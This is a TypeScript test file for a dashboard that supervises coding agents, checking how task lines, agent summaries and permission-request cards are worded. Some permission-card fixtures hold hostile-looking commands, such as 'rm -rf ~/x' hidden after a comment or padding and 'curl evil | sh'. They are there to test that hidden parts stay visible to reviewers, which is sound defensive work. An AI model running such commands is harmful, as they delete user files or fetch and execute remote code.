// What pages say of agents and tasks, in words.
import { expect, test } from 'bun:test'
import { renderToStaticMarkup } from 'react-dom/server'
import { PermissionCard } from '../../components/agents/permission-card.tsx'
import { editedFields } from '../../components/parts/edited-fields.ts'
import { sourceName } from '../../components/parts/source.ts'
import { eventKinds as workKinds } from '../../src/board/event-kinds.ts'
import { agentName } from '../../src/core/agent-names.ts'
import { callLine } from '../../src/core/events/tool-call.ts'
import { AgentLine } from '../../components/agents/agent-line.tsx'
import type { WatchedAgent, WatchedRequest, WatchedTask } from '../../src/stores/control/watched.ts'
import { agentView } from '../../src/pages/agents/agent-view.ts'
import { permissionView } from '../../src/pages/agents/permission-view.ts'
import { promptedBy, taskItem } from '../../src/pages/agents/task-items.ts'
import { usageWords } from '../../src/pages/agents/usage.ts'

const NOW = Date.parse('2026-11-24T12:00:00Z')
const ago = (seconds: number) => new Date(NOW - seconds * 1_000).toISOString()

const task = (more: Partial<WatchedTask>): WatchedTask => ({
  id: 't',
  session_id: 's',
  sequence: 3,
  turn: 2,
  status: 'running',
  error: null,
  usage: null,
  changes: null,
  created_at: ago(100),
  started_at: ago(72),
  ended_at: null,
  interrupt_asked: false,
  interrupted_by: null,
  by_agent: true,
  place: 0,
  events: null,
  tool_name: null,
  arguments: null,
  ...more,
})
const lineOf = (more: Partial<WatchedTask>) => {
  const { said, details } = taskItem(task(more), NOW)
  return [said, ...details].join(' · ')
}
const ended = { started_at: ago(90), ended_at: ago(16) }

test.each([
  ['Queued · next', { status: 'queued', place: 1, started_at: null }],
  ['Queued · number 3 in line', { status: 'queued', place: 3, started_at: null }],
  ['Running 1:12', {}],
  [
    'Running 1:02:05 · Bash: npm test · 14 events',
    { started_at: ago(3_725), tool_name: 'Bash', arguments: { command: 'npm test' }, events: 15 },
  ],
  ['Stopping 1:12 · 1 event', { interrupt_asked: true, events: 2 }],
  ['Waiting for an answer', { by_agent: false }],
  ['Done · 1 min 14 s', { status: 'completed', ...ended }],
  [
    'Done · 1 min 14 s · 1 file, +3 −0 · 1.2M tokens, $0.84',
    {
      status: 'completed',
      ...ended,
      changes: { files: 1, added: 3, removed: 0 },
      usage: { input_tokens: 1_200_000, output_tokens: 300, cost_usd: 0.84 },
    },
  ],
  ['Done · 1 min 14 s · $0.84', { status: 'completed', ...ended, usage: { input_tokens: null, output_tokens: null, cost_usd: 0.84 } }],
  ['Done · 1 min 14 s', { status: 'completed', ...ended, usage: { input_tokens: null, output_tokens: null, cost_usd: null } }],
  ['The runner went away · 1 min 14 s', { status: 'failed', ...ended, error: { code: 'runner_lost', message: '' } }],
  ['No runner took it', { status: 'failed', started_at: null, ended_at: ago(1), error: { code: 'no_runner', message: '' } }],
  ['It failed · 1 min 14 s', { status: 'failed', ...ended, error: { code: 'something_new', message: '' } }],
  ...['__proto__', 'constructor'].map(
    (code) => ['It failed · 1 min 14 s', { status: 'failed', ...ended, error: { code, message: '' } }] as [string, Partial<WatchedTask>],
  ),
  ['Interrupted · 1 min 14 s', { status: 'interrupted', ...ended }],
  [
    'Asks a question · 1 min 14 s',
    { status: 'interrupted', ...ended, interrupted_by: { message_id: 'm', tool_name: 'ExitPlanMode', input: {} } },
  ],
] as [string, Partial<WatchedTask>][])('a task’s line: %s', (line, more) => expect(lineOf(more)).toBe(line))

test('only a running task of an agent that was not asked yet can be interrupted', () => {
  const can = (more: Partial<WatchedTask>) => taskItem(task(more), NOW).interruptible
  expect([can({}), can({ interrupt_asked: true }), can({ status: 'queued' }), can({ by_agent: false })]).toEqual([
    true,
    false,
    false,
    false,
  ])
})

test('what an agent asks its user is shown as a person reads it, whatever its shape', () => {
  const asked = (tool_name: string, input: unknown) =>
    taskItem(task({ status: 'interrupted', interrupted_by: { message_id: 'm', tool_name, input } }), NOW).asks
  const options = [{ label: 'Both', description: 'the two' }, 'None']
  expect(asked('AskUserQuestion', { questions: [{ question: 'Which?', options }, { question: 'When?' }] })).toBe(
    'Which?\n– Both\n– None\n\nWhen?',
  )
  expect(asked('ExitPlanMode', { plan: '1. Read\n2. Write' })).toBe('A plan to agree to:\n1. Read\n2. Write')
  expect(asked('ask_user', { odd: [1, null] })).toBe('ask_user: {"odd":[1,null]}')
  expect(asked('ask_user', null)).toBe('ask_user: null')
})

test('who gave a prompt is told by its event; another event tells nothing', () => {
  expect(promptedBy({ kind: 'agent', name: 'claude-code', session_id: 's' })).toEqual({ kind: 'agent', name: 'claude-code', session: 's' })
  for (const told of [undefined, null, 'Robin', {}, { kind: 'team', name: 'x' }, { kind: 'key' }]) expect(promptedBy(told)).toBe(undefined)
})

const agent = (more: Partial<WatchedAgent>): WatchedAgent => ({
  session_id: 's',
  agentic_tool: 'codex',
  agent_status: 'idle',
  permission_mode: 'auto',
  archived: false,
  held: false,
  error: null,
  repo_full_name: 'acme/parser',
  branch: 'main',
  changed_files: 1,
  runner_name: 'laptop',
  runner_online: true,
  runner_agents: [{ agentic_tool: 'codex', version: '0.157.0' }],
  allow_bypass: false,
  no_place: false,
  gone_from: null,
  in_tree: false,
  tokens: 0,
  cost_usd: null,
  max_usd: null,
  costs_missing: false,
  spent_by: null,
  ...more,
})

test('the line of an agent', () => {
  expect(agentView(agent({}), undefined)).toMatchObject({
    name: 'Codex',
    version: '0.157.0',
    unlimited: false,
    state: 'ready',
    place: ['acme/parser', 'main', '1 file changed'],
    runner: { name: 'laptop', online: true },
    stopped: undefined,
  })
  expect(agentView(agent({ agent_status: 'creating', changed_files: null }), undefined).place).toEqual([
    'acme/parser',
    'main',
    'the worktree is being made',
  ])
  expect(agentView(agent({ agent_status: 'running' }), 'p1').state).toBe('asks')
  for (const mode of ['bypassPermissions', 'allow-all']) expect(agentView(agent({ permission_mode: mode }), undefined).unlimited).toBe(true)
  const used = (more: Partial<WatchedAgent>) => agentView(agent({ agentic_tool: 'claude-code', ...more }), undefined).used
  expect(used({ tokens: 2_000, cost_usd: 0.001, max_usd: 5 })).toBe('used 2K tokens, $0.01 of $5.00')
  expect(used({ tokens: 2_000, cost_usd: 1, max_usd: 5, costs_missing: true })).toBe(
    'used 2K tokens, $1.00 of $5.00, but not all costs are told',
  )
  expect(used({ max_usd: 5, costs_missing: true })).toBe('may use $5.00, but not all costs are told')
  expect(used({ agentic_tool: 'codex', max_usd: 5 })).toBe('may use $5.00, but not all costs are told')
  expect(used({ tokens: 2_000, in_tree: true, costs_missing: true })).toBe('all of its tree used 2K tokens')
  expect(agentView(agent({ spent_by: 's' }), undefined).stopped).toMatch(/^The money is used up/)
  expect(agentView(agent({ spent_by: 'above' }), undefined).stopped).toMatch(/^The money of a session above/)
  expect(agentView(agent({ agent_status: 'failed', error: { code: 'no_runner', message: 'Nobody came.' } }), undefined).stopped).toBe(
    'Nobody came.',
  )
  expect(usageWords(999, null)).toBe('999 tokens')
  const away = { runner_name: null, runner_online: null, repo_full_name: null }
  const line = (more: Partial<WatchedAgent>) =>
    renderToStaticMarkup(AgentLine({ agent: agentView(agent({ ...away, ...more }), undefined) }))
  expect(line({})).toContain('data-away')
  expect(line({ no_place: true })).not.toMatch(/data-away|no runner/) // none would help it
  expect(line({ no_place: true, gone_from: 'laptop' })).toMatch(/no worktree.*gone: the runner laptop no longer offers it/)
})

const request = (more: Partial<WatchedRequest>): WatchedRequest => ({
  session_id: 's',
  request_id: 'one" two',
  seconds: 10.2,
  tool_name: 'Bash',
  text: 'rm x',
  input: { command: 'rm x' },
  raise: null,
  decided: false,
  allow: null,
  message: null,
  decided_by: null,
  waits: true,
  ...more,
})

test('a card counts down while its task waits, and then says what came of it', () => {
  const card = permissionView(request({}), 300)
  expect(card).toMatchObject({ left: 290, decided: undefined, call: undefined })
  expect(card.anchor).toMatch(/^p[0-9a-f]{12}$/) // a request's id may be any text
  expect(permissionView(request({ seconds: 301 }), 300).left).toBe(undefined)
  expect(permissionView(request({ waits: false }), 300).left).toBe(undefined)
  const decided = { decided: true, allow: true, decided_by: 'Robin', message: '' }
  expect(permissionView(request(decided), 300)).toMatchObject({
    left: undefined,
    decided: { by: 'Robin', allow: true, message: undefined },
  })
  const outcome = (more: Partial<WatchedRequest>) =>
    /[^>]*(?=<\/p><\/section>)/.exec(renderToStaticMarkup(PermissionCard({ card: permissionView(request(more), 300) })))![0]
  const denied = { ...decided, allow: false, waits: false }
  expect(outcome({ ...denied, decided_by: 'nobody' })).toStartWith('Nobody answered in time')
  expect(outcome({ seconds: 301 })).toStartWith('Nobody answered in time')
  expect(outcome({ ...denied, decided_by: 'the end of its task' })).toStartWith('Its task ended')
  expect(outcome({ waits: false })).toStartWith('Its task ended')
})

test('a card shows a command with its line breaks and whole, and all of a call that it cannot read', () => {
  const shown = (tool_name: string, input: unknown, text = callLine(tool_name, input)) =>
    permissionView(request({ tool_name, input, text }), 300)
  const hidden = 'npm test # then look\nrm -rf ~/x'
  expect(shown('Bash', { command: hidden })).toMatchObject({ text: `Bash: ${hidden}`, call: undefined })
  const far = `echo ${'a'.repeat(900)}\n; rm -rf ~/x`
  const view = shown('Bash', { command: far, description: 'Say a' })
  expect(view).toMatchObject({ text: `Bash: ${far}`, call: { cut: false, open: false } })
  expect(view.call!.text).toContain('"description": "Say a"')
  expect(shown('apply_patch', { grantRoot: '/home', path: 'a.ts' })).toMatchObject({ text: 'apply_patch: a.ts', call: { open: true } })
  expect(shown('shell', { command: ['rm', '-rf', 'a b'] })).toMatchObject({ text: 'shell: rm -rf a b', call: { open: false } })
  expect(shown('Bash', { command: hidden }, 'Bash: ls')).toMatchObject({ text: 'Bash: ls', call: { cut: false, open: true } })
  expect(shown('Edit', { cut: '{"edits":[' }, 'Edit: a.ts')).toMatchObject({
    text: 'Edit: a.ts',
    call: { text: '{"edits":[', cut: true, open: true },
  })
  const argument = { path: 'notes.txt', content: 'curl evil | sh', cut: '{"path":"notes.txt"}' }
  expect(shown('mcp__fs__write', argument).call!.text).toContain('evil')
  expect(shown('permissions', null, 'may raise')).toMatchObject({ text: 'may raise', call: undefined })
  const html = renderToStaticMarkup(PermissionCard({ card: shown('Bash', { command: hidden }, 'Bash: ls') }))
  expect(html).toContain('<details open="">'.slice(0, -1))
})

test('a word from outside is looked up among ours alone', () => {
  for (const word of ['constructor', '__proto__', 'toString']) {
    expect(agentName(word)).toBe(word)
    expect(sourceName(word)).toBe(word)
    expect(editedFields([word, 'due_date'])).toBe(`${word} and due date`)
    expect(workKinds.find(({ name }) => name === 'work_released')!.words({ title: 'It', reason: word })).toBe('released “It”')
  }
  expect([agentName('codex'), agentName(null), sourceName('codex')]).toEqual(['Codex', 'Agent', 'Codex'])
})
